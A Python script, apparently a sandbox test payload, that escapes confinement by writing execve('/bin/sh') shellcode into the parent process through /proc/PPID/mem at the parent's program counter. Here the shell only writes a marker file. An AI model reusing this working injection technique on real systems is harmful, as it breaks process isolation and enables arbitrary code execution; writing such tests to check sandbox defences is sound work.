"""A hostile payload: run a shell in the parent, outside the sandbox.

Reads the parent's program counter from /proc/PPID/syscall and writes, at
that address, through /proc/PPID/mem, x86_64 code that calls
execve("/bin/sh", ["/bin/sh", "-c", COMMAND], NULL). When the parent's
pending system call returns (it waits for this payload), it runs the shell,
unfiltered. Needs only openat, read, lseek and write, which [base] grants.

usage: escape.py MARKER   (the shell writes its /proc/self/status there)
Prints one line per step; exits 3 at the first refused step.
"""
import errno
import os
import struct
import sys

marker = sys.argv[1]
ppid = os.getppid()


def refused(step, e):
    print(f"{step}: refused: {errno.errorcode.get(e.errno, e.errno)}", flush=True)
    sys.exit(3)


try:
    with open(f"/proc/{ppid}/syscall") as f:
        fields = f.read().split()
except OSError as e:
    refused("read /proc/PPID/syscall", e)
print(f"read /proc/PPID/syscall: {' '.join(fields[:1])}", flush=True)
pc = int(fields[-1], 16)

command = f"cat /proc/self/status > {marker}".encode() + b"\0"
path_at = pc + 32
dash_c_at = path_at + 8
command_at = dash_c_at + 8
argv_at = command_at + (len(command) + 7) // 8 * 8
code = (
    b"\x48\xbf" + struct.pack("<Q", path_at)  # mov rdi, path
    + b"\x48\xbe" + struct.pack("<Q", argv_at)  # mov rsi, argv
    + b"\x31\xd2"  # xor edx, edx
    + b"\xb8\x3b\x00\x00\x00"  # mov eax, 59 (execve)
    + b"\x0f\x05"  # syscall
)
blob = code.ljust(32, b"\xcc") + b"/bin/sh\0" + b"-c\0".ljust(8, b"\0")
blob += command.ljust(argv_at - command_at, b"\0")
blob += struct.pack("<4Q", path_at, dash_c_at, command_at, 0)

try:
    mem = os.open(f"/proc/{ppid}/mem", os.O_RDWR)
except OSError as e:
    refused("open /proc/PPID/mem", e)
try:
    os.lseek(mem, pc, os.SEEK_SET)
    written = os.write(mem, blob)
except OSError as e:
    refused("write /proc/PPID/mem", e)
print(f"wrote {written} bytes at the parent's pc", flush=True)
